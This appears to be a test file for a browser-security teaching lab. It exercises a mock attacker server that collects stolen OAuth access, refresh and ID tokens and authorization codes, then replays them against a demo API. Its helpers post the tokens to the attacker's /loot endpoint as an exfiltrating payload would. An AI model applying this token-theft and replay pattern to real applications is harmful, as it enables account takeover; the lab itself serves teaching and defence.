import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { checkHeaders } from "strongroom/check-headers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TestApp, type TokenResponse } from "../../../dev-provider/src/test-support/sign-in.js";
import { ada } from "../../../dev-provider/src/users.js";
import { type Demo, startDemo } from "../demo.js";
import type { Loot } from "./loot.js";

const ANY = { app: 0, authorizationServer: 0, api: 0, naiveApp: 0, attacker: 0 };

let folder: string;
let demo: Demo;
let attacker: string;
let tokens: TokenResponse;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "strongroom-lab-"));
  await writeFile(join(folder, "index.html"), "<!doctype html><title>The app</title>");
  await writeFile(join(folder, "worker.js"), "");
  const workerScript = join(folder, "worker.js");
  demo = await startDemo({ ports: ANY, app: folder, workerScript });
  attacker = demo.lab.attacker;
  tokens = await new TestApp(demo.authorizationServer, demo.lab.signIn.redirectUri).signIn();
});
afterAll(async () => {
  await demo.close();
  await rm(folder, { recursive: true });
});

let count = 0;
const newRun = () => `${attacker}/runs/${++count}`;

/** Sends what a payload sends when an attack has found a secret. */
function take(run: string, secret: string, attack = "reads localStorage"): Promise<Response> {
  return send(run, "/loot", JSON.stringify([[attack, secret]]));
}

function send(run: string, path: string, body = ""): Promise<Response> {
  const { origin } = new URL(demo.lab.naive);
  return fetch(run + path, { method: "POST", headers: { origin }, body });
}

/** All messages of the run's stream. */
async function shown(run: string): Promise<{ loot: Loot[]; text: string }> {
  await send(run, "/end");
  const response = await fetch(run);
  let text = "";
  for await (const chunk of response.body?.pipeThrough(new TextDecoderStream()) ?? []) {
    text += chunk;
    if (text.includes('"end"')) break;
  }
  const events = [...text.matchAll(/^data: (.*)$/gm)].map(([, data]) => JSON.parse(data ?? "") as Loot);
  return { text, loot: events.filter(({ kind }) => kind !== "end") };
}

describe("the attacker's server", () => {
  it("calls the API with an access token, and gets the user's data", async () => {
    const run = newRun();
    await take(run, tokens.access_token);
    expect((await shown(run)).loot).toEqual([
      {
        number: 1,
        attack: "reads localStorage",
        kind: "access",
        excerpt: tokens.access_token.slice(-6),
        length: tokens.access_token.length,
        uses: [{ what: "the API", status: 200, worked: true, as: "ada" }],
      },
    ]);
  });

  it("gets new tokens for a refresh token, and calls the API with them", async () => {
    const run = newRun();
    await take(run, tokens.refresh_token ?? "");
    expect((await shown(run)).loot).toMatchObject([
      {
        kind: "refresh",
        uses: [
          { what: "the token endpoint", status: 200, worked: true },
          { what: "the API, with the new access token", status: 200, worked: true, as: "ada" },
        ],
      },
    ]);
  });

  it("shows that a JWT is refused, and that another value is no token", async () => {
    const run = newRun();
    await take(run, `${tokens.access_token.slice(0, -8)}AAAAAAAA`);
    await take(run, "x".repeat(1700));
    expect((await shown(run)).loot).toMatchObject([
      { kind: "access", uses: [{ what: "the API", status: 401, worked: false }] },
      { kind: "other", uses: [] },
    ]);
  });

  it("shows a secret once, with the attack that found it first", async () => {
    const run = newRun();
    await take(run, tokens.access_token);
    await take(run, tokens.access_token, "hooks fetch");
    expect((await shown(run)).loot).toMatchObject([{ attack: "reads localStorage" }]);
  });

  it("shows the API's response that the payload got through the page", async () => {
    const run = newRun();
    await send(run, "/calls-the-api-as-the-app-does/answer", `200 ${"data ".repeat(50)}`);
    expect((await shown(run)).loot).toMatchObject([
      {
        attack: "calls the API as the app does",
        kind: "other",
        excerpt: expect.stringMatching(/^200 data /),
        length: 254,
      },
    ]);
  });

  it("shows of a token only its last six characters", async () => {
    const run = newRun();
    for (const token of [tokens.access_token, tokens.id_token, tokens.refresh_token ?? ""]) {
      await take(run, token);
    }
    await send(run, "/calls-the-api-as-the-app-does/answer", `200 ${tokens.access_token}`);
    const { text, loot } = await shown(run);
    expect(loot.map(({ kind }) => kind).sort()).toEqual(["access", "id", "other", "refresh"]);
    for (const token of [tokens.access_token, tokens.id_token, tokens.refresh_token ?? ""]) {
      expect(text).toContain(token.slice(-6));
      expect(text).not.toContain(token.slice(-7));
    }
    expect(text).not.toContain(tokens.access_token.slice(0, 20));
  });

  it("counts what each attack found, and repeats why one stopped", async () => {
    const run = newRun();
    await take(run, tokens.access_token);
    await take(run, tokens.access_token, "hooks fetch");
    const played = [
      { attack: "reads cookies", problem: "blocked" },
      { attack: "hooks fetch" },
      { attack: "invented", found: 7 },
    ];
    await send(run, "/end", JSON.stringify(played));
    const { text } = await shown(run);
    const [ending] = [...text.matchAll(/^data: (.*"end".*)$/gm)].map(([, data]) => JSON.parse(data ?? ""));
    expect(ending.played).toEqual([
      { attack: "hooks fetch", found: 1 },
      { attack: "reads cookies", found: 0, problem: "blocked" },
    ]);
  });

  it("knows the vault's origin of the app that has one, and redeems a stolen code", async () => {
    const { app, vault } = demo.vaultOrigin;
    const factsFor = async (run: string, origin: string) =>
      (await fetch(`${run}/facts`, { headers: { origin } })).json() as Promise<Record<string, string>>;
    expect(await factsFor(newRun(), demo.origin)).toEqual({ vaultUrl: "" });

    const run = newRun();
    const facts = await factsFor(run, app);
    expect(facts).toMatchObject({ vaultUrl: vault, redirectUri: `${vault}/callback.html` });
    const browser = new TestApp(demo.authorizationServer, facts.redirectUri ?? "");
    const request = browser.authorizationRequest({ code_challenge: facts.codeChallenge });
    const { searchParams } = await browser.fillIn(request, ada);
    await take(run, `code=${searchParams.get("code")}`);
    await take(run, "code=invented");
    expect((await shown(run)).loot).toMatchObject([
      { kind: "code", uses: [{ what: "the token endpoint", worked: true }] },
      { kind: "code", uses: [{ what: "the token endpoint", worked: false }] },
    ]);
  });

  it("does not count what is in the attack's own authorization request", async () => {
    const run = newRun();
    const { codeChallenge } = await (
      await fetch(`${run}/facts`, { headers: { origin: demo.vaultOrigin.app } })
    ).json();
    await take(run, codeChallenge);
    expect((await shown(run)).loot).toEqual([]);
  });

  it("keeps runs apart, and survives a malformed report", async () => {
    const [run, other] = [newRun(), newRun()];
    await take(run, tokens.access_token);
    await expect(send(other, "/loot", "{")).rejects.toThrow();
    expect((await shown(other)).loot).toEqual([]);
    expect((await shown(run)).loot).toHaveLength(1);
  });

  it("lets every page send and look", async () => {
    const run = newRun();
    for (const response of [
      await take(run, "x"),
      await fetch(run, { headers: { origin: "http://localhost:1" } }),
    ]) {
      expect(response.headers.get("access-control-allow-origin")).toBe("*");
      await response.body?.cancel();
    }
  });
});

describe("the lab's sites", () => {
  const policyOf = async (url: string) => {
    const { headers } = await fetch(url, { headers: { accept: "text/html" } });
    const policy = headers.get("content-security-policy") ?? "";
    return new Map(policy.split("; ").map((text) => [text.split(" ")[0] ?? "", text.split(" ").slice(1)]));
  };

  it("let the lab's page connect to the attacker, and no other page of the vault's app", async () => {
    const { origin, api } = demo;
    expect((await policyOf(`${origin}/lab`)).get("connect-src")).toEqual([
      "'self'",
      api.origin,
      origin,
      attacker,
    ]);
    for (const path of ["/", "/lab/", "/labs", "/config.json"]) {
      expect((await policyOf(origin + path)).get("connect-src"), path).toEqual([
        "'self'",
        api.origin,
        origin,
      ]);
    }
  });

  it("leave nothing for checkHeaders to find in the vault's app", async () => {
    const { origin, api, authorizationServer } = demo;
    const { authorization, token } = authorizationServer.endpoints;
    const provider = { authorizationEndpoint: authorization, tokenEndpoint: token };
    expect(await checkHeaders(origin, { api: [api.url], provider, paths: ["/lab"] })).toEqual([]);
  });

  it("have the callback of the app without a vault on an origin of its own", async () => {
    const { lab, origin } = demo;
    const naive = new URL(lab.signIn.redirectUri);
    expect(naive.hostname).not.toBe(new URL(origin).hostname); // cookies do not tell ports apart
    expect(await (await fetch(naive, { headers: { accept: "text/html" } })).text()).toContain("The app");
    const html = await (await fetch(`${origin}/auth/callback?code=x`)).text();
    expect(html).not.toContain("<title>The app</title>");
  });

  it("are as strict in the app without a vault as such an app can be", async () => {
    const policy = await policyOf(demo.lab.naive);
    const { api, authorizationServer } = demo;
    expect(policy.get("script-src")).toEqual(["'self'"]);
    expect(policy.get("connect-src")).toEqual(["'self'", api.origin, authorizationServer.origin, attacker]);
  });

  it("are told in /config.json of both apps", async () => {
    const { lab } = demo;
    expect(lab.vault).toBe(`${demo.origin}/lab`);
    for (const origin of [demo.origin, new URL(lab.naive).origin]) {
      expect(await (await fetch(`${origin}/config.json`)).json()).toMatchObject({ lab });
    }
  });
});
